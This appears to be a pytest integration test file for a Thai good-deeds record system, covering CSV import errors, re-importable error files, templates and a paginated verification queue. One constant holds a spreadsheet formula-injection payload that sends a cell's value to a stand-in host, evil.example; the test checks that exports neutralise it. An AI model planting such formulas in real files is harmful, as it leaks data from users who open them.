"""A school clerk's file and queue (issue 15): reasons in the page's language with the
template's column names, a partial import as a success with a list, an error file
that imports again as it is once fixed, templates whose example passes, and a
verification queue with counts, pages and filters in a bounded number of queries."""

import csv
import html
import io
import re
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import timedelta

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import event, func, select
from sqlalchemy.orm import Session

from dcatalog.accounts import service as accounts
from dcatalog.accounts.permissions import Role
from dcatalog.actors import SYSTEM
from dcatalog.agencies.service import get_agency
from dcatalog.catalog.models import DeedType
from dcatalog.deeds.models import Deed, DeedStatus
from dcatalog.demo.service import load_demo
from tests.factories import csrf_from, make_account, sign_in, sign_in_citizen
from tests.integration.test_import import TODAY, be, nid
from tests.integration.test_import_jobs import HTMX, job_id_in, upload

pytestmark = pytest.mark.demo_data  # on the demo's reference data, loaded once

THAI_HEADINGS = "เลขประจำตัวประชาชน,ประเภทความดี,จำนวน,วันที่,จังหวัด,หลักฐาน,รหัสอ้างอิง\n"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def row(n: int, **cells: str) -> list[str]:
    values = {
        "national_id": nid(n),
        "deed_type": "kys.volunteer_activity",
        "quantity": "2",
        "occurred_on": be(TODAY - timedelta(days=3 + n % 5)),
        "province": "TH-50",
        "evidence": f"ใบรับรอง {n}",
        "external_id": f"c-{n}",
        **cells,
    }
    return list(values.values())


def as_csv(rows: list[list[str]], heading: str = THAI_HEADINGS) -> bytes:
    out = io.StringIO()
    out.write(heading)
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8")


def mistakes() -> list[list[str]]:
    """20 good rows, then one of each mistake a clerk makes."""
    rows = [row(n) for n in range(20)]
    rows.append(row(20, national_id=nid(20)[:-1] + str((int(nid(20)[-1]) + 1) % 10)))
    rows.append(row(21, deed_type="kys.volunteer"))
    rows.append(row(22, occurred_on="31/02/2569"))
    rows.append(row(23, quantity="-3"))
    rows.append(row(24, quantity=FORMULA))
    return rows


@pytest.fixture
def clerk(app: FastAPI, session: Session) -> TestClient:
    """A school's recorder who may verify too (an agency admin of the demo university)."""
    load_demo(session)
    account = make_account(session, Role.AGENCY_ADMIN, get_agency(session, "demouniv"))
    client = TestClient(app)
    sign_in(client, account.email)
    return client


def imported_count(session: Session) -> int:
    session.expire_all()
    return session.scalar(select(func.count()).select_from(Deed)) or 0


# --- 1. reasons in the page's language, columns as the template names them -------------


def test_an_imports_reasons_are_thai_on_thai_pages_and_english_on_english_pages(
    clerk: TestClient,
) -> None:
    job = job_id_in(upload(clerk, as_csv(mistakes())).text)
    thai = html.unescape(clerk.get(f"/staff/deeds/imports/{job}").text)
    assert "เลขประจำตัวประชาชนไม่ถูกต้อง (หลักตรวจสอบไม่ตรง)" in thai
    assert "'kys.volunteer' ไม่ใช่ประเภทความดีที่อนุมัติแล้วในบัญชีความดี" in thai
    assert "ไม่มีวันนี้ในปฏิทิน" in thai  # 31/02
    assert "ต้องมากกว่า 0" in thai
    assert "ไม่ใช่ตัวเลข" in thai
    assert ">ประเภทความดี</td>" in thai
    assert ">deed_type</td>" not in thai
    assert "check digit" not in thai

    clerk.cookies.set("lang", "en")
    english = clerk.get(f"/staff/deeds/imports/{job}").text
    assert "the check digit does not match: the number has a typo" in english
    assert "there is no such day in the calendar" in english
    assert ">National ID</td>" in english
    assert ">national_id</td>" not in english
    report = clerk.get(f"/staff/deeds/imports/{job}/errors.csv").content.decode("utf-8-sig")
    assert "Row 22: National ID: the check digit does not match" in report
    assert report.splitlines()[0].endswith(",Why refused")


def test_the_single_record_form_gives_its_reasons_in_thai(clerk: TestClient) -> None:
    token = csrf_from(clerk, "/staff/deeds/record")
    form = dict(zip(("national_id", "deed_type", "quantity", "occurred_on", "province", "evidence", "external_id"), row(1, quantity="0"), strict=True))  # fmt: skip
    answer = clerk.post("/staff/deeds/record", data={"csrf_token": token, **form})
    assert answer.status_code == 422
    assert "จำนวน: ต้องมากกว่า 0" in answer.text
    form["quantity"], form["occurred_on"] = "1", "31/02/2569"
    answer = clerk.post("/staff/deeds/record", data={"csrf_token": token, **form})
    assert "วันที่: ไม่มีวันนี้ในปฏิทิน" in answer.text
    assert "day is out of range" not in answer.text


def test_a_rejection_reason_from_the_list_reads_in_thai_and_stays_english_in_the_api(
    clerk: TestClient, app: FastAPI, session: Session
) -> None:
    upload(clerk, as_csv([row(1)]))
    deed = session.scalars(select(Deed)).one()
    token = csrf_from(clerk, "/staff/deeds/queue")
    clerk.post(
        f"/staff/deeds/{deed.id}/reject",
        data={"csrf_token": token, "reason_code": "no_evidence", "reason": ""},
    )
    session.expire_all()
    assert deed.status is DeedStatus.REJECTED
    assert deed.status_reason == "the evidence is missing or cannot be read"  # the API's
    citizen = TestClient(app)
    sign_in_citizen(citizen, session, nid(1))
    assert "ไม่มีหลักฐาน หรืออ่านหลักฐานไม่ได้" in citizen.get("/me").text


# --- 2. a partial import is a success with a list -----------------------------------------


def test_a_partly_successful_upload_is_a_success_with_the_rows_to_fix(clerk: TestClient) -> None:
    answer = upload(clerk, as_csv(mistakes()))
    assert answer.status_code == 202
    outcome = re.search(
        r'<div class="alert ([^"]+)" role="status"[^>]*>(.*?)</div>', answer.text, re.S
    )
    assert outcome is not None
    assert outcome.group(1) == "alert-ok"
    assert "นำเข้าแล้ว 20 แถว" in outcome.group(2)
    assert "5 แถวต้องแก้ไข" in outcome.group(2)
    assert "alert-error" not in answer.text
    assert "แถวที่ต้องแก้ไข" in answer.text  # the list, with the first rows to fix


# --- 3. the error file: the rows as sent, fixed and imported again as they are ---------------


def test_the_fixed_error_file_imports_as_it_is_and_nothing_is_recorded_twice(
    clerk: TestClient, session: Session
) -> None:
    original = as_csv(mistakes())
    job = job_id_in(upload(clerk, original).text)
    assert imported_count(session) == 20
    download = clerk.get(f"/staff/deeds/imports/{job}/errors.csv")
    assert download.headers["cache-control"] == "no-store"
    lines = list(csv.reader(io.StringIO(download.content.decode("utf-8-sig"))))
    heading, refused = lines[0], lines[1:]
    assert heading == [*THAI_HEADINGS.strip().split(","), "เหตุที่ไม่รับ"]
    assert [r[:-1] for r in refused[:4]] == mistakes()[20:24]  # exactly as uploaded
    assert refused[4][2] == "'" + FORMULA  # formula text comes back neutralised

    # The clerk fixes the bad cells and uploads the file as it is (the reason column too).
    fixed = []
    for cells in refused:
        cells = list(cells)
        n = int(cells[6].removeprefix("c-"))
        cells[:4] = row(n)[:4]
        fixed.append(cells)
    out = io.StringIO()
    csv.writer(out).writerows([heading, *fixed])
    again = clerk.get(
        f"/staff/deeds/imports/{job_id_in(upload(clerk, out.getvalue().encode()).text)}"
    )
    assert "นำเข้าแล้ว 5 แถว" in again.text
    assert imported_count(session) == 25

    # The original file once more: every row sent before, none recorded twice.
    once_more = clerk.get(f"/staff/deeds/imports/{job_id_in(upload(clerk, original).text)}")
    assert imported_count(session) == 25
    assert re.search(r'data-testid="count-unchanged">20<', once_more.text)


def test_the_page_says_how_many_rows_the_capped_download_holds(
    clerk: TestClient, settings: object
) -> None:
    settings.import_errors_reported = 3  # type: ignore[attr-defined]
    job = job_id_in(upload(clerk, as_csv(mistakes())).text)
    page = clerk.get(f"/staff/deeds/imports/{job}").text
    assert "ไฟล์ที่ดาวน์โหลดมี 3 แถวแรกจาก 5 แถวที่ต้องแก้ไข" in page
    assert "มีครบ" not in page
    lines = clerk.get(f"/staff/deeds/imports/{job}/errors.csv").content.decode("utf-8-sig")
    assert lines.strip().splitlines()[-1].strip(",").startswith("… และอีก 2 แถว")


# --- 4. templates: linked from the import page, and their example passes -------------------


def test_every_deed_types_template_example_is_accepted_and_never_recorded(
    app: FastAPI, session: Session
) -> None:
    load_demo(session)
    codes = list(session.scalars(select(DeedType.code).order_by(DeedType.code)))
    assert "redcross.blood_donation" in codes
    clients: dict[object, TestClient] = {}
    for code in codes:
        owner = session.get_one(DeedType, code).owner_agency_id
        if owner not in clients:
            agency = next(a for a in [get_agency(session, c) for c in ("kys", "redcross", "thaihealth", "moral", "korat_hospital", "demouniv", "greenmart")] if a.id == owner)  # fmt: skip
            clients[owner] = TestClient(app)
            sign_in(clients[owner], make_account(session, Role.AGENCY_ADMIN, agency).email)
        client = clients[owner]
        page = client.get("/staff/deeds/import").text
        assert f'href="/catalog/{code}/template.csv"' in page
        for suffix, kind in (("csv", "text/csv"), ("xlsx", "application/octet-stream")):
            template = client.get(f"/catalog/{code}/template.{suffix}")
            assert template.status_code == 200
            if suffix == "csv":
                assert template.text.lstrip("\ufeff").startswith("เลขประจำตัวประชาชน,ประเภทความดี")
            token = csrf_from(client, "/staff/deeds/import")
            answer = client.post(
                "/staff/deeds/import",
                data={"csrf_token": token},
                files={"file": (f"template.{suffix}", template.content, kind)},
                headers=HTMX,
            )
            assert 'data-testid="count-rejected">0<' in answer.text, (code, answer.text[-2000:])
            assert "ตรวจแถวตัวอย่างของแบบฟอร์ม 1 แถวแล้ว ผ่านเกณฑ์" in answer.text, code
    assert imported_count(session) == 0  # examples are never recorded


# --- 5. the verification queue: counts, pages, filters, names, bounded queries -------------


@contextmanager
def statements(session: Session) -> Iterator[list[str]]:
    seen: list[str] = []
    engine = session.get_bind()

    def count(*args: object) -> None:
        seen.append(str(args[2]))

    event.listen(engine, "before_cursor_execute", count)
    try:
        yield seen
    finally:
        event.remove(engine, "before_cursor_execute", count)


def test_the_queue_counts_pages_and_filters_in_a_fixed_number_of_queries(
    clerk: TestClient, session: Session
) -> None:
    rows = [row(n, occurred_on=be(TODAY - timedelta(days=2 + n % 3))) for n in range(120)]
    upload(clerk, as_csv(rows))
    first = clerk.get("/staff/deeds/queue").text
    assert "120 รายการรอตรวจรับรอง" in first
    assert "หน้า 1 จาก 3" in first
    assert first.count('name="ids"') == 50
    assert "กิจกรรมจิตอาสา (ชั่วโมงจิตอาสา กยศ.)" in first  # the type's name, not its code
    assert "<code>kys.volunteer_activity</code>" not in first
    last = clerk.get("/staff/deeds/queue?page=3").text
    assert last.count('name="ids"') == 20
    assert "แสดงรายการที่ 101–120" in last

    day = TODAY - timedelta(days=2)
    filtered = clerk.get(
        "/staff/deeds/queue",
        params={
            "deed_type": "kys.volunteer_activity",
            "occurred_from": be(day),
            "occurred_to": be(day),
        },
    ).text
    assert "ตรงตามตัวกรอง 40 จาก 120 รายการ" in filtered
    assert filtered.count('name="ids"') == 40

    with statements(session) as small:
        clerk.get("/staff/deeds/queue?page=3")
    with statements(session) as full:
        clerk.get("/staff/deeds/queue")
    assert 3 <= len(full) == len(small) <= 12, full  # no query per deed shown


def test_held_for_review_reads_in_thai_on_the_pages_and_stays_english_in_the_api(
    clerk: TestClient, app: FastAPI, session: Session
) -> None:
    key = accounts.create_api_key(session, SYSTEM, get_agency(session, "kys"), "kys", ["deeds:write"])[1]  # fmt: skip
    session.commit()
    cells = dict(zip(("national_id", "deed_type", "quantity", "occurred_on", "province", "evidence", "external_id"), row(7), strict=True))  # fmt: skip
    api = TestClient(app).post(
        "/api/v1/deeds",
        json={
            **cells,
            "occurred_on": (TODAY - timedelta(days=3 + 7 % 5)).isoformat(),
            "external_id": "k-7",
        },
        headers={"authorization": f"Bearer {key}"},
    )
    assert api.status_code == 201, api.text
    token = csrf_from(clerk, "/staff/deeds/record")
    page = clerk.post("/staff/deeds/record", data={"csrf_token": token, **cells})
    assert page.status_code == 201, page.text[-1500:]
    assert "รอสำนักงานโครงการตรวจสอบ" in page.text
    assert "held for review" not in page.text
    stored = session.scalars(select(Deed).where(Deed.external_id == "c-7")).one()
    assert stored.status_reason == "held for review by the programme office"  # the API's text
